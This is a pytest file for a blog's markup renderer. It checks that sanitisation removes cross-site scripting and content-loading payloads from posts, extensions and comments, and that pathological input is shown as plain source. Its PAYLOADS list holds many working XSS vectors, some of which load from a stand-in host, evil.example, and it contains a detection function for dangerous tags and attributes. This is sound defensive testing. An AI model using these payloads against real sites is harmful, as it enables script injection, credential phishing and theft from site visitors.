"""Nothing that an author or an extension writes may run in a reader's browser, or make it ask another site."""

import copy
import re
from collections.abc import Callable

import pytest
from lxml import etree, html

from mablog.markup import LONGEST_COMMENT, comments, render, render_comment
from mablog.markup.code import highlight
from mablog.markup.tree import serialise, to_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="/static/x.png" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#10;ScRiPt:alert(1)">x</a>',
    '<a href="&#x6a;avascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<p id=cookie>x</p><a name=createElement>x</a><img name=body src="/static/x.png">',
    '<img src="/static/x.png" srcset="https://evil.example/x.png 2x">',
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<textarea></textarea><xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '<http://example.org/"onmouseover="alert(1)>',
]


FORBIDDEN = {"script", "style", "svg", "math", "iframe", "embed", "object", "meta", "base", "link", "form", "button"}


def dangers(markup: str) -> list[str]:
    """What in the HTML would run, leave the site by itself, or stand in the way of the page's own names."""
    found: list[str] = []
    for element in html.fromstring(f"<main>{markup}</main>").iter():
        tag = str(element.tag)
        if tag in FORBIDDEN | {"video", "template"}:
            found.append(tag)
        for name, value in element.attrib.items():
            if name.startswith("on") or name in ("style", "srcdoc", "name", "xlink:href", "action"):
                found.append(f"{tag} {name}")
            if name == "id" and not re.match("(h|u|fn|fnref)-", value):
                found.append(f"{tag} id={value}")
            if name == "href" and re.match(r"(?!https?:|mailto:|tel:)[\s\x00-\x20]*[a-z\s]+:", value, re.I):
                found.append(f"{tag} href={value}")
            if name in ("src", "srcset") and not re.match(r"/(media|static)/", value):
                found.append(f"{tag} {name}={value}")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "<div>\n\n{}\n\n</div>", "text {}", "> {}", "| a |\n|---|\n| {} |"])
def test_no_payload_survives(payload: str, frame: str) -> None:
    assert dangers(render(frame.format(payload)).html) == []


def test_the_same_payloads_are_dangerous_without_cleaning() -> None:
    harmless = [payload for payload in PAYLOADS if not dangers(to_html(payload))]
    # Those that comrak itself makes harmless, or that need another context to be dangerous.
    assert len(harmless) <= len(PAYLOADS) // 4, harmless
    assert not {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="javascript:alert(1)">x</a>'} & {
        *harmless
    }


def add_script(root: etree._Element) -> None:
    etree.SubElement(root, "script").text = "alert(1)"


def add_handler(root: etree._Element) -> None:
    etree.SubElement(root, "img", {"src": "/static/x.png", "onerror": "alert(1)"})


def add_address(root: etree._Element) -> None:
    etree.SubElement(root, "a", {"href": "javascript:alert(1)", "id": "body"}).text = "x"


def add_outside_picture(root: etree._Element) -> None:
    etree.SubElement(root, "img", {"src": "https://evil.example/x.png"})


@pytest.mark.parametrize("attack", [add_script, add_handler, add_address, add_outside_picture])
def test_an_extension_cannot_bring_danger_in(attack: Callable[[etree._Element], None]) -> None:
    root = etree.Element("div")
    attack(root)
    assert dangers(serialise(root)), "the control: without cleaning the attack is there"
    assert dangers(render("x", passes=[attack]).html) == []


def test_no_payload_survives_in_a_comment() -> None:
    for payload in PAYLOADS:
        for frame in ("{}", "text {}", "> {}", "- a\n\n  {}"):
            written = render_comment(frame.format(payload))
            assert dangers(written) == [], payload
            assert "<img" not in written, payload
            assert "<input" not in written, payload


def test_the_allowlist_of_comments_holds_alone_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(comments, "comment_to_html", to_html)  # so that what is escaped now would come through
    assert [payload for payload in PAYLOADS if dangers(render_comment(payload))] == []
    attacks = (add_script, add_handler, add_address, add_outside_picture)
    for attack in attacks:
        assert dangers(render_comment("x", passes=[attack])) == []
    monkeypatch.setattr(comments, "clean_comment", str)
    assert all(dangers(render_comment("x", passes=[attack])) for attack in attacks), "the control: nothing is cleaned"


def test_an_extension_can_bring_elements_with_classes_of_its_own() -> None:
    def add_note(root: etree._Element) -> None:
        etree.SubElement(root, "div", {"class": "ext-note other"}).text = "Mind."

    assert '<div class="ext-note">Mind.</div>' in render("x", passes=[add_note]).html


def test_an_input_is_never_more_than_a_disabled_checkbox() -> None:
    def add_input(root: etree._Element) -> None:
        etree.SubElement(root, "input", {"type": "password", "name": "password"})

    added = html.fromstring(render("x", passes=[add_input]).html).xpath("//input")[0]
    assert dict(added.attrib) == {"type": "checkbox", "disabled": ""}
    assert "<input" not in render("<input type=password name=p>").html


@pytest.mark.parametrize(
    "source",
    [
        ">" * 10_000 + " deep",
        "<div>" * 10_000 + "deep" + "</div>" * 10_000,
        "x" + "<span>" * 10_000 + "deep",
        "<font>" * 10_000 + "deep",
        "a\n\n" * 300_000 + "deep",
        "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n" + ("|" + "a|" * 1000 + "\n") * 400 + "deep",
    ],
    ids=["quotes", "divs", "spans", "unknown elements", "paragraphs", "cells"],
)
def test_what_is_too_complex_is_shown_as_its_source(source: str) -> None:
    rendered = render(source)
    assert rendered.html.startswith('<pre class="plain">')
    assert html.fromstring(rendered.html).text_content() == source == rendered.text


@pytest.mark.parametrize(
    "source",
    [
        "[" * 10_000 + "deep",
        "*" * 10_000 + "deep",
        "- " * 10_000 + "deep",
        "![" * 10_000 + "deep",
        "<h1>" + "<h2>" * 400 + "words " * 100_000 + "deep",
        "<p>" + "".join(f"<b title={n}>" for n in range(400)) + "<p>x</p>" * 20_000 + "deep",
        "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">deep",
        "word " * 200_000 + "deep",
        "\0" * 1000 + "deep\ud800",
        "&#0;&#12;&#1;\x0b\x0c deep &#xFFFF;",
    ],
    ids=["brackets", "stars", "lists", "pictures", "headings", "formats", "attributes", "long", "NUL", "references"],
)
def test_odd_input_keeps_its_text(source: str) -> None:
    rendered = render(source)
    assert "deep" in rendered.text
    assert "deep" in rendered.html
    assert len(rendered.html) < 10 * len(source) + 100
    rendered.html.encode()


@pytest.mark.parametrize(
    "source",
    ["> " * 30 + "deep", "- " * 13 + "deep", "a\n\n" * LONGEST_COMMENT + "deep", "word " * 200_000 + "deep"],
    ids=["quotes", "lists", "paragraphs", "long"],
)
def test_a_comment_that_is_too_complex_is_shown_as_its_source(source: str) -> None:
    written = render_comment(source)
    assert written.startswith('<pre class="plain">')
    assert html.fromstring(written).text_content() == source


def test_code_that_takes_long_to_colour_stays_plain() -> None:
    text = "a b " * 500  # pygments takes time by the square of this
    root = etree.fromstring(f'<div><pre><code class="language-java">{text}</code></pre></div>')
    slow, cut = copy.deepcopy(root), copy.deepcopy(root)
    highlight(slow, seconds=3_600)
    highlight(cut, seconds=0)
    assert list(slow.iter("span")), "the control: with time enough there are tokens"
    assert [element.tag for element in cut.iter()] == ["div", "pre", "code"]
    assert cut[0][0].text == text


def test_empty_input_gives_empty_output() -> None:
    rendered = render("")
    assert (rendered.html, rendered.toc, rendered.text, rendered.words, rendered.reading_minutes) == ("", (), "", 0, 1)
